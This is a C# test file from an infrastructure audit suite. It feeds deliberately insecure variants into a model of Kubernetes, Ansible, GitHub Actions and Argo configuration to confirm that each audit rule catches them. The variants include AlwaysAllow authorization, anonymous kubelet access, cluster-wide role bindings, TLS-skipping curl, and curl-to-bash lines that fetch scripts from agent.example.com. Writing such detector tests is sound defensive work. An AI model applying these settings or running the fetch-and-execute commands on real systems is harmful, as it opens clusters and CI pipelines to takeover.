using k8s.Models;
using YamlDotNet.RepresentationModel;
using Platform.Build.Ansible;

namespace Platform.Build.Tests.Audit;

/// <summary>
/// Second ways in, found by review: the same attack written another way (a
/// flag given twice, a boolean spelt "1", a kubelet flag on the workers, a
/// combined curl option, a job-level token, ...). Each must still fail its rule.
/// </summary>
public static class VariantAttacks
{
    private static void Arg(AuditModel m, string component, string name, string value)
    {
        var cluster = m.Kubeadm.First(d => ((YamlScalarNode)d[new YamlScalarNode("kind")]).Value == "ClusterConfiguration");
        var args = (YamlSequenceNode)((YamlMappingNode)cluster[new YamlScalarNode(component)])[new YamlScalarNode("extraArgs")];
        args.Add(new YamlMappingNode(new YamlScalarNode("name"), new YamlScalarNode(name), new YamlScalarNode("value"), new YamlScalarNode(value)));
    }

    private static Action<AuditModel> Task(string yaml) => m =>
    {
        const string worker = "ansible/roles/k8s-worker/tasks/main.yml";
        m.AnsibleFiles[worker] = m.AnsibleFiles[worker].TrimEnd() + "\n\n" + yaml.Trim() + "\n";
    };

    private static Action<AuditModel> Workflow(string from, string to) => m =>
    {
        var at = m.Workflow.IndexOf(from, StringComparison.Ordinal);
        Xunit.Assert.True(at >= 0, from);
        m.Workflow = m.Workflow[..at] + to + m.Workflow[(at + from.Length)..];
    };

    public static readonly IReadOnlyList<(string Rule, string Variant, Action<AuditModel> Attack)> All =
    [
        ("CIS-1.2.6", "AlwaysAllow first, Node,RBAC given again after it", m => { Arg(m, "apiServer", "authorization-mode", "AlwaysAllow"); Arg(m, "apiServer", "authorization-mode", "Node,RBAC"); }),
        ("CIS-1.2.10", "AlwaysAdmit in an earlier entry of enable-admission-plugins", m => { Arg(m, "apiServer", "enable-admission-plugins", "AlwaysAdmit"); Arg(m, "apiServer", "enable-admission-plugins", "NodeRestriction,AlwaysPullImages,EventRateLimit,DenyServiceExternalIPs"); }),
        ("CIS-1.2.1", "anonymous-auth spelt 1", m => Arg(m, "apiServer", "anonymous-auth", "1")),
        ("CIS-1.2.21", "service-account-lookup spelt f", m => Arg(m, "apiServer", "service-account-lookup", "f")),
        ("CIS-4.2.1", "the workers' KUBELET_EXTRA_ARGS turn anonymous requests on", m => m.WorkerKubelet = "KUBELET_EXTRA_ARGS=--node-ip={{ ansible_host }} --anonymous-auth=true\n"),
        ("CIS-4.2.4", "the workers' KUBELET_EXTRA_ARGS open the read-only port", m => m.WorkerKubelet = "KUBELET_EXTRA_ARGS=--node-ip={{ ansible_host }} --read-only-port=10255\n"),
        ("CIS-4.2.2", "the workers' KUBELET_EXTRA_ARGS authorize everything", m => m.WorkerKubelet = "KUBELET_EXTRA_ARGS=--authorization-mode=AlwaysAllow --node-ip={{ ansible_host }}\n"),
        ("MTB-007", "a ClusterRoleBinding to every service account of a tenant namespace", m => m.Guardrails.Add(new Platform.Build.Kubernetes.Manifests.Manifest("attack", 1, new V1ClusterRoleBinding
        {
            ApiVersion = "rbac.authorization.k8s.io/v1", Kind = "ClusterRoleBinding", Metadata = new V1ObjectMeta { Name = "org-a-sa-view" },
            RoleRef = new V1RoleRef { ApiGroup = "rbac.authorization.k8s.io", Kind = "ClusterRole", Name = "view" },
            Subjects = [new Rbacv1Subject { Kind = "Group", Name = "system:serviceaccounts:org-a-dev", ApiGroup = "rbac.authorization.k8s.io" }],
        }))),
        ("MTB-007", "a ClusterRoleBinding to every signed-in user", m => m.Guardrails.Add(new Platform.Build.Kubernetes.Manifests.Manifest("attack", 1, new V1ClusterRoleBinding
        {
            ApiVersion = "rbac.authorization.k8s.io/v1", Kind = "ClusterRoleBinding", Metadata = new V1ObjectMeta { Name = "everyone-edit" },
            RoleRef = new V1RoleRef { ApiGroup = "rbac.authorization.k8s.io", Kind = "ClusterRole", Name = "edit" },
            Subjects = [new Rbacv1Subject { Kind = "Group", Name = "system:authenticated", ApiGroup = "rbac.authorization.k8s.io" }],
        }))),
        ("MTB-009", "the tenant's deployer bound to the built-in admin role", m => m.Namespaces.Select(x => x.Object).OfType<V1RoleBinding>().First(b => b.Metadata.NamespaceProperty == "org-a-dev").RoleRef.Name = "admin"),
        ("ANS-001", "curl -fsSLk", Task("- name: Fetch\n  ansible.builtin.shell: curl -fsSLk https://agent.example.com/a -o /tmp/a\n  changed_when: true")),
        ("ANS-001", "validate_certs under args:", Task("- name: Fetch\n  ansible.builtin.get_url:\n    url: https://agent.example.com/a\n    dest: /tmp/a\n    mode: \"0644\"\n    checksum: sha256:0123\n  args:\n    validate_certs: false")),
        ("ANS-001", "kubectl --insecure-skip-tls-verify", Task("- name: Nodes\n  ansible.builtin.command: kubectl --insecure-skip-tls-verify get nodes\n  changed_when: false")),
        ("ANS-001", "a keyword before the module (become_method)", Task("- name: Fetch\n  become_method: sudo\n  ansible.builtin.get_url:\n    url: https://agent.example.com/a\n    dest: /tmp/a\n    mode: \"0644\"\n    checksum: sha256:0123\n    validate_certs: false")),
        ("ANS-002", "bash -c \"$(curl ...)\"", Task("- name: Install\n  ansible.builtin.shell: bash -c \"$(curl -fsSL https://agent.example.com/i.sh)\"\n  changed_when: true")),
        ("ANS-002", "| sudo -E bash", Task("- name: Install\n  ansible.builtin.shell: curl -fsSL https://agent.example.com/i.sh | sudo -E bash\n  changed_when: true")),
        ("CI-002", "a job's token write-all", Workflow("    timeout-minutes: 20\n", "    timeout-minutes: 20\n    permissions: write-all\n")),
        ("CI-003", "pull_request_target checking out github.head_ref", m =>
        {
            Workflow("  pull_request:\n", "  pull_request_target:\n")(m);
            Workflow("          persist-credentials: false\n", "          persist-credentials: false\n          ref: ${{ github.head_ref }}\n")(m);
        }),
        ("CI-001", "a reusable workflow by tag", Workflow("jobs:\n", "jobs:\n  shared:\n    uses: example-org/workflows/.github/workflows/scan.yml@v1\n")),
        ("ARGO-003", "server.extraArgs --insecure", m => ((YamlMappingNode)m.ArgoValues["dev"][new YamlScalarNode("server")]).Children[new YamlScalarNode("extraArgs")] = new YamlSequenceNode(new YamlScalarNode("--insecure"))),
    ];
}
